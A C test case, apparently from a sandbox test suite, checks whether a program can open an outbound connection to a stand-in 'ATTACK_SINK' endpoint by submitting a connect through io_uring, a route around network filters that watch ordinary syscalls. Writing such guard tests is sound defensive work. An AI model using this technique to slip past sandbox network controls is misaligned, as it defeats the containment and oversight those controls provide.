// class: network
// rule: guard_integrity outbound_connectivity native_code
// success: a C program connects by io_uring
// proof: sink
// needs: io_uring x86_64
#include "attack.h"
#include <linux/io_uring.h>
#include <sys/mman.h>

int main(void)
{
    struct io_uring_params p = {0};
    struct sockaddr_in sink = endpoint("ATTACK_SINK");
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int ring = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (ring < 0) return stopped("io_uring_setup");
    char *q = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *sqe = mmap(NULL, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE,
                                    MAP_SHARED, ring, IORING_OFF_SQES);
    if (q == MAP_FAILED || sqe == MAP_FAILED) return stopped("mmap");
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_CONNECT;
    sqe->fd = fd;
    sqe->addr = (uintptr_t)&sink;
    sqe->off = sizeof sink;
    *(unsigned *)(q + p.sq_off.array) = 0;
    __atomic_store_n((unsigned *)(q + p.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return stopped("io_uring_enter");
    struct io_uring_cqe *cqe = (struct io_uring_cqe *)(q + p.cq_off.cqes);
    if (cqe->res < 0) {
        errno = -cqe->res;
        return stopped("connect in the ring");
    }
    return reached();
}
